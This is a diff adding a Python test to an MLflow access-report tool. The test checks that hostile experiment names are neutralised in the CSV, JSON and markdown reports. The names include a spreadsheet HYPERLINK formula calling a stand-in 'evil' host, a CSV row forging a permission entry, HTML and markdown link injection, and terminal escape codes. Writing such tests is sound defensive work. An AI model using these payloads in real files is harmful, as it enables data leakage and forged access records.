@@ -110,3 +110,45 @@ def test_only_who_ran_it_can_read_the_report(reports: Path) -> None:
 def test_a_second_report_changes_nothing(reports: Path, running: Stage) -> None:
     first, second = (running.play("report_access", mlflow_access_report_dir=str(reports.parent)) for _try in range(2))
     assert (first.code, second.code, second.changed) == (0, 0, 0), second.output
+
+
+def test_a_member_forges_nothing(running: Stage, tmp_path: Path) -> None:
+    names = [
+        '=HYPERLINK("http://evil/?"&A1;"ok")',
+        'x\n"nlp","dave","experiment","sentiment","NO_PERMISSIONS",""',
+        "x\n\n## All reviewed, nothing to do\n<img src=x onerror=y> [here](http://evil.example)",
+        "\t=1+1",
+        " \uff1d1+1",
+        "a|b \\| c",
+        "\x1b[1A\x1b[2K\u202e",
+    ]
+    for name in names:
+        running.client("vision", "create", "erin", name)
+    try:
+        run = running.play("report_access", "-v", "--diff", mlflow_access_report_dir=str(tmp_path))
+        assert run.code == 0, run.output
+        assert "\x1b[2K" not in run.output
+    finally:
+        for name in names:
+            running.client("vision", "delete", name)
+    with (tmp_path / "mlflow1.csv").open(newline="") as file:
+        rows = list(csv.reader(file))
+    told = json.loads((tmp_path / "mlflow1.json").read_text())
+    assert set(names) <= {entry.get("experiment") for entry in told["vision"]["effective"]}
+    assert {len(row) for row in rows} == {6}
+    assert len(rows) == 1 + sum(len(found["effective"]) for found in told.values())
+    assert not [cell for row in rows for cell in row if cell.strip(' "')[:1] in tuple("=+-@\uff1d")]
+    for suffix in (".csv", ".md"):
+        text = (tmp_path / f"mlflow1{suffix}").read_text()
+        assert all(line.isprintable() for line in text.split("\n"))
+    assert [line for line in text.splitlines() if line.startswith("#")] == [
+        "# Who can do what on mlflow1",
+        "## vision",
+        "## nlp",
+    ]
+    assert "<img" not in text
+    assert "](http" not in text
+    cells = [
+        line.replace("\\\\", "").replace("\\|", "").count("|") for line in text.splitlines() if line.startswith("|")
+    ]
+    assert set(cells) == {5}
